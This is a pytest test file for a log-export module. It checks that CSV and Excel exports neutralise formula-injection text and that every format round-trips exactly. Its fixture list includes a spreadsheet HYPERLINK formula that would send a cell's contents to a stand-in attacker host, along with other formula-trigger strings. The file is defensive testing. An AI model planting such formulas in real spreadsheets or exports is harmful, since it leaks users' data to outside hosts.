"""Exports of the session log and reading them back (hive_review/exports.py)."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest

from hive_review.log import columns as col
from hive_review.log.exports import (
    EXCEL_CELL_LIMIT,
    EXPORT_FORMATS,
    ImportFormatError,
    export_csv,
    export_excel,
    export_jsonl,
    export_parquet,
    read_export,
)
from hive_review.log.frames import column_dtype, empty_log_frame

# Text that must come back exactly: emoji, right-to-left, line breaks, CSV syntax, formula triggers
# (OWASP: = + - @ tab CR), text that already starts with quotes, and Excel's own escape syntax.
NASTY = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "'",
    "'plain quote",
    "-",
    "émoji 🐝🎉 and ZWJ 👩‍💻",
    "مرحبا بالعالم",
    "שלום עולם",
    "line one\nline two\r\nline three\rend",
    'a "quoted" word, and a comma',
    "_x000D_ looks like an escape",
    "_xABCD\x01 control after hex",
    "controls \x00\x07\x0b\x1f",
    "  spaced out  ",
    "NA",
    "null",
    "None",
    "5",
]
TEXT_COLUMNS = [col.COMPLETION, col.COMMENT, col.IDEAL_ANSWER, col.LABELS, "input.tone"]
FORMULA_LOOKING = {text for text in NASTY if text[0] in "=+-@\t\r" or text.lstrip("'")[:1] in tuple("=+-@")}


def nasty_log() -> pd.DataFrame:
    rows = len(NASTY)
    reversed_nasty = list(reversed(NASTY))
    start = pd.Timestamp("2025-03-01T08:00:00.123456Z")
    frame = pd.DataFrame(
        {
            col.TIMESTAMP: [start + pd.Timedelta(minutes=i, microseconds=i) for i in range(rows)],
            col.SESSION_ID: "session-1",
            col.REVIEWER: "qa-bob",
            col.TASK: "support",
            col.PROMPT_NAME: "=prompt",
            col.PROMPT_VERSION: ["v1", "v2"] * (rows // 2),
            col.MODEL: "gemma3",
            col.SOURCE: "studio",
            col.ORIGIN: "playground",
            col.INPUTS_JSON: [json.dumps({"tone": text}, ensure_ascii=False) for text in NASTY],
            col.COMPLETION: NASTY,
            col.LATENCY_MS: np.linspace(12.5, 999.25, rows),
            col.PROMPT_TOKENS: range(rows),
            col.COMPLETION_TOKENS: [None if i % 3 == 0 else i for i in range(rows)],
            col.TOTAL_TOKENS: range(10, 10 + rows),
            col.COST: [-1.5, *([0.000012345] * (rows - 1))],  # a negative number is never quoted
            col.GENERATION_ID: [f"gen-{i}" for i in range(rows)],
            col.THUMBS: (["up", "down", None] * rows)[:rows],
            col.RATING: ([5, None, 1, 3] * rows)[:rows],
            col.LABELS: reversed_nasty,
            col.COMMENT: reversed_nasty,
            col.IDEAL_ANSWER: NASTY,
            col.RATED_AT: [None if i % 2 else start for i in range(rows)],
            col.FEEDBACK_STATUS: "sent",
            col.FEEDBACK_ERROR: None,
            col.BATCH_ID: None,
            col.COMPARISON_ID: None,
            col.PREFERENCE: None,
            col.AB_POSITION: None,
            "input.tone": NASTY,
        }
    )
    return frame.astype({name: column_dtype(name) for name in frame.columns})


def assert_same_log(back: pd.DataFrame, original: pd.DataFrame, *, excel: bool = False) -> None:
    assert list(back.columns) == list(original.columns)
    for name in original.columns:
        assert back[name].dtype == original[name].dtype, name
    for name in [*TEXT_COLUMNS, col.INPUTS_JSON, col.PROMPT_NAME, col.GENERATION_ID]:
        assert back[name].tolist() == original[name].tolist(), name
    for name in (col.RATING, col.PROMPT_TOKENS, col.COMPLETION_TOKENS, col.TOTAL_TOKENS):
        pd.testing.assert_series_equal(back[name], original[name])
    pd.testing.assert_series_equal(back[col.LATENCY_MS], original[col.LATENCY_MS], rtol=1e-12)
    pd.testing.assert_series_equal(back[col.COST], original[col.COST], rtol=1e-12)
    for name in (col.TIMESTAMP, col.RATED_AT):
        drift = (back[name] - original[name]).abs().max()
        # Excel keeps a time as a fraction of a day: exact to the millisecond.
        assert pd.isna(drift) or drift <= pd.Timedelta(milliseconds=1 if excel else 0), name


@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
def test_round_trip_gives_back_the_exact_log(name: str) -> None:
    original = nasty_log()
    export_format = EXPORT_FORMATS[name]
    back = read_export(export_format.write(original), f"log.{export_format.extension}")
    assert_same_log(back, original, excel=name == "Excel")


def test_export_formats_name_function_extension_and_mime() -> None:
    assert list(EXPORT_FORMATS) == ["CSV", "JSONL", "Parquet", "Excel"]
    write, extension, mime = EXPORT_FORMATS["Excel"]
    assert write is export_excel
    assert extension == "xlsx"
    assert mime == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert [f.extension for f in EXPORT_FORMATS.values()] == ["csv", "jsonl", "parquet", "xlsx"]


def test_csv_bytes_hold_neutralised_text_and_iso_utc_times() -> None:
    original = nasty_log()
    data = export_csv(original)
    assert not data.startswith(b"\xef\xbb\xbf")  # plain UTF-8, no BOM
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row, text in zip(rows, NASTY, strict=True):
        expected = "'" + text if text in FORMULA_LOOKING else text
        assert row[col.COMPLETION] == expected
        assert row["input.tone"] == expected
        assert row[col.PROMPT_NAME] == "'=prompt"
    assert rows[0][col.COST] == "-1.5"  # numeric columns are never quoted
    assert rows[0][col.TIMESTAMP] == "2025-03-01T08:00:00.123456Z"
    assert rows[1][col.RATED_AT] == ""


def test_csv_quotes_only_text_that_needs_it() -> None:
    data = export_csv(nasty_log()).decode("utf-8")
    assert "'-2" in data
    assert "'5" not in data
    assert "'émoji" not in data


def test_excel_cells_hold_neutralised_text_as_strings() -> None:
    original = nasty_log()
    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(original))).active
    header = [cell.value for cell in sheet[1]]
    completion = header.index(col.COMPLETION)
    cells = [row[completion] for row in sheet.iter_rows(min_row=2)]
    by_text = dict(zip(NASTY, cells, strict=True))
    for text in FORMULA_LOOKING:
        assert by_text[text].data_type == "s", text  # text, never a formula
        assert by_text[text].value.startswith("'"), text
    assert by_text['=HYPERLINK("https://evil.example/?leak="&A1, "click me")'].value.startswith("'=HYPERLINK")
    assert by_text["\r=1+1"].value == "'_x000D_=1+1"  # Excel's escape: XML would turn CR into LF
    assert by_text["émoji 🐝🎉 and ZWJ 👩‍💻"].value == "émoji 🐝🎉 and ZWJ 👩‍💻"
    timestamp = sheet.cell(row=2, column=header.index(col.TIMESTAMP) + 1).value
    assert timestamp.tzinfo is None  # Excel has no time zones: naive UTC
    assert abs(pd.Timestamp(timestamp) - pd.Timestamp("2025-03-01T08:00:00.123456")) <= pd.Timedelta("1ms")
    assert sheet.cell(row=2, column=header.index(col.COST) + 1).value == -1.5


def test_jsonl_and_parquet_bytes_hold_the_exact_text() -> None:
    original = nasty_log()
    lines = export_jsonl(original).decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [record[col.COMPLETION] for record in records] == NASTY
    assert records[0][col.TIMESTAMP] == "2025-03-01T08:00:00.123456Z"
    assert records[0][col.RATING] == 5
    assert records[1][col.RATING] is None
    assert records[0][col.COST] == -1.5
    parquet = pd.read_parquet(io.BytesIO(export_parquet(original)))
    assert parquet[col.COMPLETION].tolist() == NASTY


def test_export_does_not_change_the_frame_it_is_given() -> None:
    original = nasty_log()
    before = original.copy(deep=True)
    for export_format in EXPORT_FORMATS.values():
        export_format.write(original)
    pd.testing.assert_frame_equal(original, before)


def test_pandas_2_style_object_columns_are_neutralised_too() -> None:
    original = nasty_log()
    as_objects = original.astype({name: object for name in TEXT_COLUMNS})
    data = export_csv(as_objects).decode("utf-8")
    assert "'=HYPERLINK" in data
    back = read_export(export_csv(as_objects), "log.csv")
    assert back[col.COMPLETION].tolist() == NASTY


def test_long_text_is_cut_with_a_marker_in_excel_only() -> None:
    original = nasty_log()
    long_texts = ["x" * 40_000, "🐝" * 20_000]  # the bees are 40,000 UTF-16 units, as Excel counts
    original.loc[0:1, col.COMPLETION] = long_texts
    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(original))).active
    completion = [cell.value for cell in sheet[1]].index(col.COMPLETION)
    for row in (2, 3):
        value = sheet.cell(row=row, column=completion + 1).value
        assert len(value.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
        assert "cut by Hive Review" in value
        assert value.endswith("the CSV, JSONL and Parquet exports hold the full text]")
    assert "40,000 characters" in sheet.cell(row=2, column=completion + 1).value
    from_excel = read_export(export_excel(original), "log.xlsx")
    assert from_excel[col.COMPLETION].iloc[0].startswith("x" * 30_000)
    for name in ("CSV", "JSONL", "Parquet"):
        export_format = EXPORT_FORMATS[name]
        back = read_export(export_format.write(original), f"log.{export_format.extension}")
        assert back[col.COMPLETION].iloc[:2].tolist() == long_texts, name


@pytest.mark.parametrize("name", ["CSV", "Parquet", "Excel"])
def test_an_empty_log_round_trips_with_its_dtypes(name: str) -> None:
    empty = empty_log_frame(["tone"])
    export_format = EXPORT_FORMATS[name]
    back = read_export(export_format.write(empty), f"log.{export_format.extension}")
    assert len(back) == 0
    assert list(back.columns) == list(empty.columns)
    assert back.dtypes.tolist() == empty.dtypes.tolist()


def test_an_empty_log_as_jsonl_is_an_empty_file_and_refused() -> None:
    # JSONL has no header: with no rows there is nothing to say which columns a log has.
    data = export_jsonl(empty_log_frame())
    assert not data.strip()
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(data, "log.jsonl")


def test_jsonl_text_that_looks_like_a_date_stays_text() -> None:
    original = nasty_log()
    original["input.created_at"] = "2024-01-01"
    back = read_export(export_jsonl(original), "log.jsonl")
    assert back["input.created_at"].tolist() == ["2024-01-01"] * len(original)


def test_columns_the_file_lacks_are_added_empty() -> None:
    original = nasty_log()
    slim = original[list(col.REQUIRED_FOR_IMPORT)]
    back = read_export(export_csv(slim), "slim.csv")
    assert list(back.columns) == list(col.LOG_COLUMNS)
    assert back[col.RATING].isna().all()
    assert back[col.RATING].dtype == pd.Int64Dtype()
    assert back[col.COMPLETION].tolist() == NASTY


def test_excel_saved_csv_with_a_bom_is_read() -> None:
    data = b"\xef\xbb\xbf" + export_csv(nasty_log())
    assert read_export(data, "log.csv")[col.COMPLETION].tolist() == NASTY


# ----------------------------------------------------------------------------------- bad files


def test_unknown_extension_is_refused_with_the_formats_it_reads() -> None:
    with pytest.raises(ImportFormatError, match=r"reads \.csv, \.jsonl, \.parquet and \.xlsx"):
        read_export(export_csv(nasty_log()), "log.xls")


@pytest.mark.parametrize("filename", ["log.csv", "log.jsonl", "log.parquet", "log.xlsx"])
def test_an_empty_file_is_refused(filename: str) -> None:
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(b"", filename)
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(b"  \n", filename)


@pytest.mark.parametrize("filename", ["log.parquet", "log.xlsx"])
def test_garbage_is_refused_as_unreadable(filename: str) -> None:
    with pytest.raises(ImportFormatError, match="could not be read as") as raised:
        read_export(b"this is not a binary file at all", filename)
    assert "Export it again from Hive Review's Log page" in str(raised.value)


def test_a_csv_that_is_not_utf8_is_refused() -> None:
    data = "reviewer,task\nBjörn,support\n".encode("latin-1")
    with pytest.raises(ImportFormatError, match="save it as UTF-8"):
        read_export(data, "log.csv")


def test_a_jsonl_line_that_is_not_an_object_is_named() -> None:
    lines = export_jsonl(nasty_log()).decode("utf-8").splitlines()
    lines[2] = "{not json"
    with pytest.raises(ImportFormatError, match="Line 3 is not a JSON object"):
        read_export("\n".join(lines).encode("utf-8"), "log.jsonl")


def test_missing_columns_are_named_with_the_fix() -> None:
    original = nasty_log().drop(columns=[col.REVIEWER, col.INPUTS_JSON])
    with pytest.raises(ImportFormatError) as raised:
        read_export(export_csv(original), "partial.csv")
    message = str(raised.value)
    assert "lacks the columns reviewer, inputs_json" in message
    assert "Export it again from Hive Review's Log page, or add the columns reviewer, inputs_json" in message


def test_values_of_the_wrong_kind_name_the_column_and_the_row() -> None:
    original = nasty_log().astype({col.RATING: object, col.LATENCY_MS: object, col.TIMESTAMP: object})
    original.loc[2, col.RATING] = "great"
    original.loc[4, col.RATING] = 7
    original.loc[1, col.LATENCY_MS] = "fast"
    original.loc[0, col.TIMESTAMP] = "yesterday"
    original.loc[3, col.INPUTS_JSON] = "[1, 2]"
    original.loc[5, col.THUMBS] = "sideways"
    with pytest.raises(ImportFormatError) as raised:
        read_export(export_csv(original), "edited.csv")
    message = str(raised.value)
    assert "column 'rating' must hold whole numbers from 1 to 5, but rows 3, 5 do not (row 3: 'great')" in message
    assert "column 'latency_ms' must hold numbers, but row 2 does not" in message
    assert "column 'timestamp' must hold ISO 8601 times, but row 1 does not (row 1: 'yesterday')" in message
    assert "column 'inputs_json' must hold a JSON object" in message
    assert 'column \'thumbs\' must hold "up", "down" or nothing, but row 6 does not' in message
    assert "fix those cells" in message


def test_a_row_without_a_generation_id_is_refused() -> None:
    records = [json.loads(line) for line in export_jsonl(nasty_log()).decode("utf-8").splitlines()]
    records[1][col.GENERATION_ID] = "  "
    data = "\n".join(json.dumps(record) for record in records).encode("utf-8")
    with pytest.raises(ImportFormatError, match="column 'generation_id' must hold an id on every row"):
        read_export(data, "log.jsonl")
